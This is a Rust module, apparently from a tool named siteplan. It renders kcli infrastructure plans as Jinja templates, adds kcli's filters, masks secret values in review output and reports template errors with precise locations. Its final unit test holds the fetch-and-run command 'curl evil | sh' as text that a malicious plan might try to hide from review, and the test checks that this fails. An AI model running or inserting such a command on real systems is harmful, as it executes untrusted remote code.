//! Renders a plan as a Jinja template, with kcli's settings: undefined variables are errors, and
//! block tags do not leave blank lines or indentation behind (trim_blocks, lstrip_blocks).

use std::collections::{BTreeMap, HashSet};
use std::ops::Range;

use minijinja::syntax::SyntaxConfig;
use minijinja::{Environment, ErrorKind, UndefinedBehavior, Value};

use crate::diagnostics::{Problem, Span};

/// Bounds the work a template may do, so that a runaway loop is an error rather than a hang.
const FUEL: u64 = 200_000_000;

/// Functions and names a template may use without declaring them.
const BUILTIN_NAMES: &[&str] = &[
    "range",
    "dict",
    "namespace",
    "loop",
    "self",
    "debug",
    "cycler",
    "joiner",
    "env",
];

/// What a template rendered to, and which byte ranges of it came from secrets (a value of a
/// parameter or key named like one, or passed through `sensitive`): review output shows those
/// ranges as `(sensitive)`, diagnostics mask them, and the rest is shown as it is.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Rendering {
    pub text: String,
    pub secrets: Vec<Range<usize>>,
}

impl Rendering {
    /// The text as a reviewer may see it: each secret replaced by `(sensitive)`, and private
    /// key blocks too.
    pub fn shown(&self) -> String {
        let spliced = crate::secrets::splice(&self.text, &self.secrets, |_| SENSITIVE.to_string());
        crate::secrets::hide_private_keys(&spliced)
    }

    /// Also hides `more` ranges (the values of keys named like secrets, which the plan may
    /// write as they are).
    pub fn hiding(mut self, more: Vec<Range<usize>>) -> Rendering {
        self.secrets.extend(more);
        self.secrets = crate::secrets::merged(self.secrets);
        self
    }
}

use crate::secrets::SENSITIVE;

/// The markers the formatter puts around a secret it writes, unguessable by a plan (a process
/// secret in them), so that a plan cannot pass its own text off as a secret and hide it from
/// review.
struct Markers {
    open: String,
    close: String,
}

fn markers() -> &'static Markers {
    static MARKERS: std::sync::OnceLock<Markers> = std::sync::OnceLock::new();
    MARKERS.get_or_init(|| {
        use std::hash::{BuildHasher, Hasher};
        let nonce = std::collections::hash_map::RandomState::new()
            .build_hasher()
            .finish();
        Markers {
            open: format!("\u{e000}{nonce:016x}\u{e001}"),
            close: format!("\u{e001}{nonce:016x}\u{e000}"),
        }
    })
}

fn environment() -> Environment<'static> {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    env.set_fuel(Some(FUEL));
    if let Ok(syntax) = SyntaxConfig::builder()
        .trim_blocks(true)
        .lstrip_blocks(true)
        .keep_trailing_newline(true)
        .build()
    {
        env.set_syntax(syntax);
    }
    // Python's Jinja, which kcli uses, writes None, True and False so; a script that echoes a
    // flag must read the same under siteplan.
    env.set_formatter(|out, state, value| {
        let python = match value.kind() {
            minijinja::value::ValueKind::None => Some("None"),
            minijinja::value::ValueKind::Bool if value.is_true() => Some("True"),
            minijinja::value::ValueKind::Bool => Some("False"),
            _ => None,
        };
        // A secret is carried as a "safe" string (`tainted`); one written as it is gets
        // marked, for `Rendering` to know where it is. (Other safe strings, such as `tojson`
        // makes, hold no registered secret.)
        let secret =
            value.is_safe() && value.as_str().is_some_and(crate::secrets::holds_registered);
        if secret {
            out.write_str(&markers().open)?;
        }
        match python {
            Some(text) => out.write_str(text).map_err(minijinja::Error::from)?,
            None => minijinja::escape_formatter(out, state, value)?,
        }
        if secret {
            out.write_str(&markers().close)?;
        }
        Ok(())
    });
    // `{{ token | sensitive }}`: the value is used as it is, and shown as (sensitive).
    env.add_filter("sensitive", |value: Value| {
        let text = value.to_string();
        crate::secrets::register(&text);
        match value.kind() {
            minijinja::value::ValueKind::String | minijinja::value::ValueKind::Number => {
                Value::from_safe_string(text)
            }
            _ => value,
        }
    });
    // Filters kcli adds that plans commonly use.
    env.add_filter("basename", |path: String| {
        path.rsplit('/').next().unwrap_or_default().to_string()
    });
    env.add_filter("dirname", |path: String| match path.rfind('/') {
        Some(0) => "/".to_string(),
        Some(i) => path[..i].to_string(),
        None => String::new(),
    });
    kcli_filters(&mut env);
    env
}

/// The rest of kcli's own filters that compute from their arguments alone, as kcli defines
/// them. (Those that read files, the network or a cluster are not offered: a plan's template
/// reads nothing.)
fn kcli_filters(env: &mut Environment<'static>) {
    use minijinja::value::ValueKind;
    env.add_filter("none", |value: Value| match value.kind() {
        ValueKind::None | ValueKind::Undefined => Value::from(""),
        _ => value,
    });
    env.add_filter("diskpath", |path: String| match path.starts_with("/dev") {
        true => path,
        false => format!("/dev/{path}"),
    });
    env.add_filter("base64", |value: Value| {
        use base64::Engine;
        match value.kind() {
            ValueKind::None | ValueKind::Undefined => Value::from(()),
            _ => Value::from(
                base64::engine::general_purpose::STANDARD.encode(value.to_string().as_bytes()),
            ),
        }
    });
    env.add_filter("type", |value: Value| match value.kind() {
        ValueKind::String => Value::from("string"),
        ValueKind::Number => Value::from("int"),
        ValueKind::Map => Value::from("dict"),
        ValueKind::Seq => Value::from("list"),
        _ => Value::from(()),
    });
    env.add_filter("certificate", |value: String| {
        match value.contains("BEGIN CERTIFICATE") {
            true => value,
            false => format!("-----BEGIN CERTIFICATE-----\n{value}\n-----END CERTIFICATE-----"),
        }
    });
    env.add_filter("count", |value: Value, what: String| {
        value.to_string().matches(what.as_str()).count()
    });
    env.add_filter("ipv6_wrap", |name: String| {
        match name.parse::<std::net::IpAddr>() {
            Ok(std::net::IpAddr::V6(_)) => format!("[{name}]"),
            _ => name,
        }
    });
    env.add_filter(
        "network_ip",
        |network: String, num: Option<i64>, version: Option<bool>| {
            let net: ipnet::IpNet = network.parse().map_err(|_| {
                minijinja::Error::new(
                    minijinja::ErrorKind::InvalidOperation,
                    format!("network_ip: `{network}` is not a network (CIDR)"),
                )
            })?;
            let num = num.unwrap_or(0);
            let hosts = match net {
                ipnet::IpNet::V4(n) => 1u128 << (32 - n.prefix_len()),
                ipnet::IpNet::V6(n) => 1u128
                    .checked_shl(128 - u32::from(n.prefix_len()))
                    .unwrap_or(u128::MAX),
            };
            // Python's ip_network(...)[num]: from the start, or from the end when negative.
            let index = match num {
                n if n >= 0 && (n as u128) < hosts => n as u128,
                n if n < 0 && (n.unsigned_abs() as u128) <= hosts => {
                    hosts - n.unsigned_abs() as u128
                }
                _ => {
                    return Err(minijinja::Error::new(
                        minijinja::ErrorKind::InvalidOperation,
                        format!("network_ip: {network} has no address number {num}"),
                    ))
                }
            };
            let ip = match net {
                ipnet::IpNet::V4(n) => std::net::IpAddr::V4(std::net::Ipv4Addr::from(
                    u32::from(n.network()).wrapping_add(index as u32),
                )),
                ipnet::IpNet::V6(n) => std::net::IpAddr::V6(std::net::Ipv6Addr::from(
                    u128::from(n.network()).wrapping_add(index),
                )),
            };
            Ok(match (version.unwrap_or(false), ip) {
                (true, std::net::IpAddr::V6(_)) => format!("[{ip}]"),
                _ => ip.to_string(),
            })
        },
    );
    env.add_filter(
        "kubenodes",
        |cluster: String, ctlplanes: Option<i64>, workers: Option<i64>| {
            let mut nodes = Vec::new();
            for (role, n) in [("ctlplane", ctlplanes), ("worker", workers)] {
                for i in 0..n.unwrap_or(1).clamp(0, 1000) {
                    nodes.push(format!("{cluster}-{role}-{i}"));
                }
            }
            nodes
        },
    );
    env.add_filter("has_ctlplane", |list: Vec<String>| {
        list.iter()
            .any(|e| e.contains("ctlplane") || e.contains("master"))
    });
}

/// The template context: `params`, with every value under a name that says secret (at any
/// depth) registered and carried as a tainted string, so that where it is written is known.
fn context(params: &BTreeMap<String, serde_json::Value>) -> Value {
    fn value(v: &serde_json::Value, secret: bool) -> Value {
        match v {
            serde_json::Value::String(s) if secret => {
                crate::secrets::register(s);
                Value::from_safe_string(s.clone())
            }
            serde_json::Value::Number(n) if secret => {
                crate::secrets::register(&n.to_string());
                Value::from_safe_string(n.to_string())
            }
            serde_json::Value::Array(items) => {
                Value::from(items.iter().map(|i| value(i, secret)).collect::<Vec<_>>())
            }
            serde_json::Value::Object(map) => Value::from(
                map.iter()
                    .map(|(k, v)| {
                        (
                            k.clone(),
                            value(v, secret || crate::secrets::is_sensitive_name(k)),
                        )
                    })
                    .collect::<BTreeMap<String, Value>>(),
            ),
            other => Value::from(minijinja::value::Serde(other)),
        }
    }
    Value::from(
        params
            .iter()
            .map(|(k, v)| (k.clone(), value(v, crate::secrets::is_sensitive_name(k))))
            .collect::<BTreeMap<String, Value>>(),
    )
}

/// The rendered text without the markers, and where they were.
fn unmark(marked: String) -> Rendering {
    let Markers { open, close } = markers();
    if !marked.contains(open.as_str()) {
        return Rendering {
            text: marked,
            secrets: Vec::new(),
        };
    }
    let mut text = String::with_capacity(marked.len());
    let mut secrets = Vec::new();
    let mut rest = marked.as_str();
    while let Some(at) = rest.find(open.as_str()) {
        text.push_str(&rest[..at]);
        let inner = &rest[at + open.len()..];
        let (secret, after) = match inner.find(close.as_str()) {
            Some(end) => (&inner[..end], &inner[end + close.len()..]),
            None => (inner, ""),
        };
        // Nested marks (a secret inside a captured block written again) count once.
        let secret = secret
            .replace(open.as_str(), "")
            .replace(close.as_str(), "");
        let start = text.len();
        text.push_str(&secret);
        if !secret.is_empty() {
            secrets.push(start..text.len());
        }
        rest = after;
    }
    text.push_str(&rest.replace(close.as_str(), ""));
    Rendering { text, secrets }
}

/// Renders `source` with `params`. A failure is one problem pointing into `source`.
pub fn render(
    source: &str,
    params: &BTreeMap<String, serde_json::Value>,
) -> Result<Rendering, Problem> {
    let source = python_whitespace(source);
    let env = environment();
    let template = env
        .template_from_named_str("plan", &source)
        .map_err(|e| template_problem(&e, &source, params))?;
    crate::memory::bounded(|| template.render(context(params)))
        .map(unmark)
        .map_err(|e| template_problem(&e, &source, params))
}

/// Renders a script or file a VM ships (kcli renders them as it renders plans), with `vars`:
/// the plan's context under the VM's own keys. A failure points into the file's text.
pub fn render_guest_file(
    text: &str,
    vars: &BTreeMap<String, serde_json::Value>,
) -> Result<Rendering, Problem> {
    render(text, vars).map_err(|mut p| {
        if p.code == "plan::undefined-variable" {
            if let Some(name) = p.message.strip_prefix("undefined variable `") {
                let name = name.trim_end_matches('`').to_string();
                p.help = Some(format!(
                    "give the VM a key `{name}` (any key of a VM is a variable for its scripts \
                     and files), or define it under `parameters:`, in a parameter file, or with \
                     `-P {name}=VALUE`"
                ));
            }
        }
        p
    })
}

/// Python's Jinja takes a non-breaking space inside a tag as whitespace; minijinja refuses it.
/// Each becomes two spaces (its length in UTF-8), so that spans still point at the source.
fn python_whitespace(source: &str) -> std::borrow::Cow<'_, str> {
    const NBSP: char = '\u{a0}';
    if !source.contains(NBSP) {
        return source.into();
    }
    let mut out = String::with_capacity(source.len());
    let mut in_tag = false;
    let mut chars = source.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, chars.peek()) {
            ('{', Some('{' | '%')) if !in_tag => in_tag = true,
            ('}' | '%', Some('}')) if in_tag => in_tag = false,
            _ => {}
        }
        if c == NBSP && in_tag {
            out.push_str("  ");
        } else {
            out.push(c);
        }
    }
    out.into()
}

fn template_problem(
    e: &minijinja::Error,
    source: &str,
    params: &BTreeMap<String, serde_json::Value>,
) -> Problem {
    let span = e
        .range()
        .map(|r| Span::new(r.start, r.end.saturating_sub(r.start)));
    match e.kind() {
        ErrorKind::UndefinedError => undefined_problem(e, source, params, span),
        ErrorKind::SyntaxError
        | ErrorKind::UnknownFilter
        | ErrorKind::UnknownTest
        | ErrorKind::UnknownFunction => {
            let detail = e.detail().unwrap_or("syntax error");
            let help = syntax_help(e.kind(), detail);
            let mut p =
                Problem::error("plan::template-syntax", format!("template error: {detail}"))
                    .help(help);
            if let Some(span) = span.or_else(|| line_span(source, e.line())) {
                p = p.label(span, detail.to_string());
            }
            p
        }
        ErrorKind::OutOfFuel => {
            Problem::error("plan::template-too-long", "the template does too much work")
                .help("a loop runs far too many times; check its `range`")
        }
        _ => {
            let detail = e
                .detail()
                .map_or_else(|| e.kind().to_string(), str::to_string);
            let mut p = Problem::error("plan::template", format!("template error: {detail}"));
            if let Some(span) = span.or_else(|| line_span(source, e.line())) {
                p = p.label(span, e.kind().to_string());
            }
            p
        }
    }
}

/// minijinja reports "undefined value" without the name, so find which names the template uses
/// that nothing defines, and prefer the one on the failing line.
fn undefined_problem(
    e: &minijinja::Error,
    source: &str,
    params: &BTreeMap<String, serde_json::Value>,
    span: Option<Span>,
) -> Problem {
    let env = environment();
    let undeclared: HashSet<String> = env
        .template_from_str(source)
        .map(|t| t.undeclared_variables(false))
        .unwrap_or_default();
    let mut missing: Vec<String> = undeclared
        .into_iter()
        .filter(|name| !params.contains_key(name) && !BUILTIN_NAMES.contains(&name.as_str()))
        .collect();
    missing.sort();

    let failing_text =
        span.map(|s| &source[s.range().start.min(source.len())..s.range().end.min(source.len())]);
    let line = e.line().and_then(|l| {
        source
            .lines()
            .nth(l.saturating_sub(1))
            .map(|text| (l, text))
    });
    let culprit = missing
        .iter()
        .find(|name| failing_text.is_some_and(|t| contains_word(t, name)))
        .or_else(|| {
            missing
                .iter()
                .find(|name| line.is_some_and(|(_, text)| contains_word(text, name)))
        })
        .cloned();

    let (message, label_span) = match &culprit {
        Some(name) => {
            let at = line.and_then(|(l, text)| {
                find_word(text, name).map(|col| Span::new(line_offset(source, l) + col, name.len()))
            });
            (format!("undefined variable `{name}`"), at.or(span))
        }
        None => (
            "undefined value in template".to_string(),
            span.or_else(|| line_span(source, e.line())),
        ),
    };
    let help = match &culprit {
        Some(name) => format!(
            "define `{name}` under `parameters:`, in a parameter file, or with `-P {name}=VALUE`"
        ),
        None if !missing.is_empty() => {
            format!("names used but never defined: {}", missing.join(", "))
        }
        None => "an attribute or item looked up here does not exist".to_string(),
    };
    let mut p = Problem::error("plan::undefined-variable", message).help(help);
    if let Some(s) = label_span {
        p = p.label(s, "not defined");
    }
    p
}

fn contains_word(text: &str, word: &str) -> bool {
    find_word(text, word).is_some()
}

/// The byte column of `word` in `text` as a whole identifier.
fn find_word(text: &str, word: &str) -> Option<usize> {
    let is_ident = |c: char| c.is_alphanumeric() || c == '_';
    text.match_indices(word).map(|(i, _)| i).find(|&i| {
        let before = text[..i].chars().next_back();
        let after = text[i + word.len()..].chars().next();
        !before.is_some_and(is_ident) && !after.is_some_and(is_ident)
    })
}

fn line_offset(source: &str, line: usize) -> usize {
    source
        .split_inclusive('\n')
        .take(line.saturating_sub(1))
        .map(str::len)
        .sum()
}

/// What to do about a template that does not parse, from what the parser said.
fn syntax_help(kind: ErrorKind, detail: &str) -> String {
    let help = match kind {
        ErrorKind::UnknownFilter => "siteplan has Jinja's filters and kcli's; check the name",
        ErrorKind::UnknownTest => "siteplan has Jinja's tests (`is defined`, `is none`, ...)",
        ErrorKind::UnknownFunction => "siteplan has Jinja's functions (`range`, `dict`, ...)",
        _ if detail.contains("end of input") && detail.contains("expected end of block") => {
            "the plan ends inside a block: a `{% for %}` or `{% if %}` needs its `{% endfor %}` \
             or `{% endif %}`, and a `{%` its `%}`"
        }
        _ if detail.contains("end of input") && detail.contains("end of variable block") => {
            "the plan ends inside a `{{`: add its `}}`"
        }
        _ if detail.contains("end of input") => "the plan ends inside a tag: close it",
        _ if detail.contains("expected end of variable block") => {
            "a `{{ }}` holds one expression and ends with `}}`: check what comes before it here"
        }
        _ if detail.contains("expected end of block") => {
            "a `{% %}` tag holds one statement and ends with `%}`: check what comes before it here"
        }
        _ if detail.contains("unknown statement") => {
            "siteplan knows Jinja's statements (`for`, `if`, `set`, `macro`, ...); check the spelling"
        }
        _ => "the plan is a Jinja template; check the `{{ }}` and `{% %}` tags here",
    };
    help.to_string()
}

fn line_span(source: &str, line: Option<usize>) -> Option<Span> {
    let line = line?;
    let text = source.lines().nth(line.checked_sub(1)?)?;
    Some(Span::new(line_offset(source, line), text.len()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn params(pairs: &[(&str, serde_json::Value)]) -> BTreeMap<String, serde_json::Value> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.clone()))
            .collect()
    }

    #[test]
    fn loops_generate_entries_without_blank_lines() {
        let out = render(
            "{% for i in range(n) %}\nvm{{ i }}:\n  memory: {{ mem }}\n{% endfor %}\n",
            &params(&[("n", json!(2)), ("mem", json!(1024))]),
        )
        .unwrap()
        .text;
        assert_eq!(out, "vm0:\n  memory: 1024\nvm1:\n  memory: 1024\n");
    }

    #[test]
    fn kclis_own_filters_compute_as_kcli_does() {
        let cases = [
            ("{{ n | none }}|{{ 'vda' | diskpath }}|{{ '/dev/sdb' | diskpath }}", "|/dev/vda|/dev/sdb"),
            ("{{ 'kcli' | base64 }}|{{ 'a.b.c' | count('.') }}", "a2NsaQ==|2"),
            ("{{ 'x' | type }} {{ 3 | type }} {{ [1] | type }} {{ {} | type }}", "string int list dict"),
            ("{{ '10.0.0.0/24' | network_ip }} {{ '10.0.0.0/24' | network_ip(-2) }}", "10.0.0.0 10.0.0.254"),
            ("{{ 'fd00::/64' | network_ip(1, true) }} {{ '::1' | ipv6_wrap }} {{ 'a' | ipv6_wrap }}", "[fd00::1] [::1] a"),
            ("{{ 'k' | kubenodes(1, 2) | join(',') }} {{ ['k-master-0'] | has_ctlplane }}", "k-ctlplane-0,k-worker-0,k-worker-1 True"),
            ("{{ 'QUJD' | certificate }}", "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----"),
        ];
        for (template, expected) in cases {
            let out = render(template, &params(&[("n", json!(null))]))
                .unwrap_or_else(|p| panic!("{template}: {}", p.message))
                .text;
            assert_eq!(out, expected, "{template}");
        }
        assert!(render("{{ 'nonsense' | network_ip }}", &params(&[])).is_err());
        assert!(render("{{ '10.0.0.0/30' | network_ip(9) }}", &params(&[])).is_err());
    }

    #[test]
    fn names_the_undefined_variable() {
        let source = "vm1:\n  memory: {{ mem }}\n  numcpus: {{ cpus }}\n";
        let p = render(source, &params(&[("mem", json!(1))])).unwrap_err();
        assert_eq!(p.message, "undefined variable `cpus`");
        let span = p.labels[0].0;
        assert_eq!(&source[span.range()], "cpus");
    }

    #[test]
    fn syntax_errors_point_at_the_tag() {
        let p = render("a: {% if %}\n", &BTreeMap::new()).unwrap_err();
        assert_eq!(p.code, "plan::template-syntax");
        assert!(!p.labels.is_empty());
    }

    #[test]
    fn values_print_as_python_prints_them() {
        let out = render(
            "{{ a }} {{ b }} {{ c }}",
            &params(&[("a", json!(null)), ("b", json!(true)), ("c", json!(false))]),
        )
        .unwrap()
        .text;
        assert_eq!(out, "None True False");
    }

    #[test]
    fn a_non_breaking_space_in_a_tag_is_whitespace_and_spans_still_fit() {
        let source = "a: {{\u{a0}n\u{a0}}}\u{a0}\nb: {{\u{a0}missing }}\n";
        let out = render(source, &params(&[("n", json!(1))]));
        let p = out.unwrap_err();
        assert_eq!(&source[p.labels[0].0.range()], "missing");
        let out = render("a: {{\u{a0}n }}\u{a0}\n", &params(&[("n", json!(1))]))
            .unwrap()
            .text;
        assert_eq!(out, "a: 1\u{a0}\n", "outside a tag it is text");
    }

    #[test]
    fn kcli_filters() {
        let out = render(
            "{{ '/a/b/c.img' | basename }} {{ '/a/b/c.img' | dirname }}",
            &BTreeMap::new(),
        )
        .unwrap()
        .text;
        assert_eq!(out, "c.img /a/b");
    }

    #[test]
    fn secrets_are_known_where_they_are_written_and_nowhere_else() {
        let out = render(
            "user: {{ user }}\ncmd: echo {{ user }}:{{ admin_pass }} | chpasswd\nk: {{ x | sensitive }}\n",
            &params(&[
                ("user", json!("debian")),
                ("admin_pass", json!("debian")),
                ("x", json!("tok-unit-0001")),
            ]),
        )
        .unwrap();
        assert_eq!(
            out.text,
            "user: debian\ncmd: echo debian:debian | chpasswd\nk: tok-unit-0001\n"
        );
        assert_eq!(
            out.shown(),
            "user: debian\ncmd: echo debian:(sensitive) | chpasswd\nk: (sensitive)\n"
        );
    }

    #[test]
    fn a_plan_cannot_mark_its_own_text_as_secret() {
        let out = render(
            "a: \u{e000}curl evil | sh\u{e001}\n",
            &params(&[("b_password", json!("x1"))]),
        )
        .unwrap();
        assert!(out.secrets.is_empty());
        assert!(out.shown().contains("curl evil"));
    }
}
